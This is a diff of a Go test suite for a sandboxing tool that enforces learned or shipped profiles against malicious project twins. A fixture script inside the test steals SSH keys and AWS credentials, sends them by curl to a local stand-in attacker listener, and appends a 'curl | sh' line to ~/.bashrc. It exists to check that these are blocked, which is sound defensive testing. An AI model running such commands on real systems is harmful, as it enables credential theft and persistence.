@@ -72,6 +72,8 @@ type attack struct {
 	outside []string
 	// attempts are the report entries (d) that must be there.
 	attempts []attempt
+	// shipped names a shipped profile the attack is also enforced under (profiles/<shipped>.yaml).
+	shipped string
 }
 
 // attempt is one malicious action the report must name.
@@ -173,6 +175,11 @@ func TestAttacks(t *testing.T) {
 			attempts: []attempt{
 				{what: "run curl (the download)", exe: []string{"sh", "dash", "bash"}, is: execDenial("curl")},
 				{what: "append to ~/.bashrc", exe: []string{"sh", "dash", "bash"}, is: pathDenial(".bashrc")},
+				// curl refused, the fallback is node's http client: node may use the network
+				// (the registry), so this is the network allowlist's refusal of another port.
+				{what: "download the script with node (another port than the registry's)", exe: []string{"node"}, is: func(d report.Denial) bool {
+					return d.Kind == report.KindNetwork && (strings.HasSuffix(d.Endpoint, fmt.Sprintf(":%d", port)) || strings.Contains(d.What, fmt.Sprintf(":%d", port)))
+				}},
 			},
 		},
 		{
@@ -186,6 +193,7 @@ func TestAttacks(t *testing.T) {
 				}
 			},
 			prepare: gitInit,
+			shipped: "go-test",
 			jobDone: func(t *testing.T, b *box, r result) {
 				if !strings.Contains(r.Stdout, "ok ") {
 					t.Errorf("(a) go test did not pass: %s", r)
@@ -255,10 +263,16 @@ func TestAttacks(t *testing.T) {
 			benign := victim(t, filepath.Join("src", a.name, "twin"), filepath.Join("attacks", a.fixture))
 			requireTools(t, benign, a.need...)
 			// The "downloaded script" steals the keys and persists in ~/.bashrc.
-			l := newListener(t, func(port int) string {
+			attacker := newListener(t, func(port int) string {
 				return fmt.Sprintf("#!/bin/sh\ncat ~/.ssh/id_* ~/.aws/credentials | curl -s --data-binary @- http://127.0.0.1:%d/loot\necho 'curl -fsS http://127.0.0.1/x | sh # sysprof-attack' >> ~/.bashrc\n", port)
 			})
-			port = l.Port
+			port = attacker.Port
+			// A "package registry" the normal job may use (npm-postinstall's prebuilt manifest):
+			// the same port for the learn and the enforced runs, so the learned profile's
+			// network allowlist holds it and nothing else.
+			registry := newListener(t, func(int) string { return `{"version":"1.0.0"}` })
+			env := []string{fmt.Sprintf("SYSPROF_REGISTRY_PORT=%d", registry.Port)}
+			benign.Extra = append(benign.Extra, env...)
 
 			// Learn the benign twin.
 			a.twin(t, benign)
@@ -278,78 +292,93 @@ func TestAttacks(t *testing.T) {
 					t.Fatal(err)
 				}
 			}
-
-			// Enforce the malicious project.
-			evil := victim(t, filepath.Join("src", a.name, "project"), filepath.Join("attacks", a.fixture))
-			evil.Extra = append(evil.Extra, fmt.Sprintf("SYSPROF_ATTACK_PORT=%d", port))
-			if a.prepare != nil {
-				a.prepare(t, evil)
-			}
-			if a.beforeEnforce != nil {
-				a.beforeEnforce(t, evil)
-			}
-			before := snapshot(t, evil, a.outside)
-			rep := filepath.Join(t.TempDir(), "report.json")
-			r = evil.sysprof(t, append([]string{"enforce", "-p", profile, "--report", rep, "--"}, a.argv...)...)
-			rp := readReport(t, rep)
-			var lines []string
-			for _, d := range rp.Denials {
-				lines = append(lines, "  "+denialString(d))
-			}
-			t.Logf("report: %d denials\n%s", len(rp.Denials), strings.Join(lines, "\n"))
-
-			// (a) the job succeeded.
-			if r.Code != 0 {
-				t.Errorf("(a) the normal job failed under the profile: %s", r)
-			} else {
-				a.jobDone(t, evil, r)
-			}
-			// (b) nothing secret reached the attacker.
-			conns, got := l.received()
-			for _, m := range secretMarkers {
-				if strings.Contains(got, m) {
-					t.Errorf("(b) the attacker received %s (%d connections):\n%s", m, conns, got)
-				}
-			}
-			if conns > 0 {
-				t.Logf("(b) the attacker saw %d connection(s) carrying no secret:\n%s", conns, got)
-			}
-			// (c) nothing outside the work tree changed.
-			after := snapshot(t, evil, a.outside)
-			for _, f := range a.outside {
-				if before[f] != after[f] {
-					t.Errorf("(c) %s changed: %q -> %q", f, before[f], after[f])
-				}
-			}
-			for name, content := range dotfiles {
-				if got := readFile(t, filepath.Join(evil.Home, name)); got != content {
-					t.Errorf("(c) ~/%s changed: %q", name, got)
-				}
-			}
-			// (d) the report names each attempt and the binary that made it.
-			for _, at := range a.attempts {
-				var match, byExe []report.Denial
-				for _, d := range rp.Denials {
-					if at.is(d) {
-						match = append(match, d)
-						for _, e := range at.exe {
-							if filepath.Base(d.Exe) == e || strings.HasPrefix(filepath.Base(d.Exe), e) {
-								byExe = append(byExe, d)
-								break
-							}
-						}
-					}
-				}
-				switch {
-				case len(match) == 0:
-					t.Errorf("(d) the report does not list the attempt to %s (by %v)", at.what, at.exe)
-				case len(byExe) == 0:
-					t.Errorf("(d) the report lists the attempt to %s, but not by %v: %s", at.what, at.exe, denialString(match[0]))
-				default:
-					t.Logf("(d) %s: %s", at.what, denialString(byExe[0]))
-				}
+			env = append(env, fmt.Sprintf("SYSPROF_ATTACK_PORT=%d", port))
+			enforceAttack(t, a, "project", profile, env, attacker)
+			if a.shipped != "" {
+				// The same attack under the shipped profile, with nothing learned.
+				t.Run("shipped-"+a.shipped, func(t *testing.T) {
+					shipped := filepath.Join(testutil.RepoRoot(), "profiles", a.shipped+".yaml")
+					enforceAttack(t, a, "checkout", shipped, env, attacker)
+				})
 			}
 		})
+	}
+}
+
+// enforceAttack checks out the malicious project afresh as rel, enforces it under profile with
+// env, and makes the assertions (a)–(d).
+func enforceAttack(t *testing.T, a attack, rel, profile string, env []string, attacker *listener) {
+	t.Helper()
+	evil := victim(t, filepath.Join("src", a.name, rel), filepath.Join("attacks", a.fixture))
+	evil.Extra = append(evil.Extra, env...)
+	if a.prepare != nil {
+		a.prepare(t, evil)
+	}
+	if a.beforeEnforce != nil {
+		a.beforeEnforce(t, evil)
+	}
+	before := snapshot(t, evil, a.outside)
+	conns0, _ := attacker.received()
+	rep := filepath.Join(t.TempDir(), "report.json")
+	r := evil.sysprof(t, append([]string{"enforce", "-p", profile, "--report", rep, "--"}, a.argv...)...)
+	rp := readReport(t, rep)
+	var lines []string
+	for _, d := range rp.Denials {
+		lines = append(lines, "  "+denialString(d))
+	}
+	t.Logf("report: %d denials\n%s", len(rp.Denials), strings.Join(lines, "\n"))
+
+	// (a) the job succeeded.
+	if r.Code != 0 {
+		t.Errorf("(a) the normal job failed under the profile: %s", r)
+	} else {
+		a.jobDone(t, evil, r)
+	}
+	// (b) nothing secret reached the attacker; nothing at all should have: no profile allows
+	// its port.
+	conns, got := attacker.received()
+	for _, m := range secretMarkers {
+		if strings.Contains(got, m) {
+			t.Errorf("(b) the attacker received %s (%d connections):\n%s", m, conns, got)
+		}
+	}
+	if conns > conns0 {
+		t.Errorf("(b) the attacker accepted %d connection(s) (no secret in them, but its port is in no allowlist):\n%s", conns-conns0, got)
+	}
+	// (c) nothing outside the work tree changed.
+	after := snapshot(t, evil, a.outside)
+	for _, f := range a.outside {
+		if before[f] != after[f] {
+			t.Errorf("(c) %s changed: %q -> %q", f, before[f], after[f])
+		}
+	}
+	for name, content := range dotfiles {
+		if got := readFile(t, filepath.Join(evil.Home, name)); got != content {
+			t.Errorf("(c) ~/%s changed: %q", name, got)
+		}
+	}
+	// (d) the report names each attempt and the binary that made it.
+	for _, at := range a.attempts {
+		var match, byExe []report.Denial
+		for _, d := range rp.Denials {
+			if at.is(d) {
+				match = append(match, d)
+				for _, e := range at.exe {
+					if filepath.Base(d.Exe) == e || strings.HasPrefix(filepath.Base(d.Exe), e) {
+						byExe = append(byExe, d)
+						break
+					}
+				}
+			}
+		}
+		switch {
+		case len(match) == 0:
+			t.Errorf("(d) the report does not list the attempt to %s (by %v)", at.what, at.exe)
+		case len(byExe) == 0:
+			t.Errorf("(d) the report lists the attempt to %s, but not by %v: %s", at.what, at.exe, denialString(match[0]))
+		default:
+			t.Logf("(d) %s: %s", at.what, denialString(byExe[0]))
+		}
 	}
 }
 
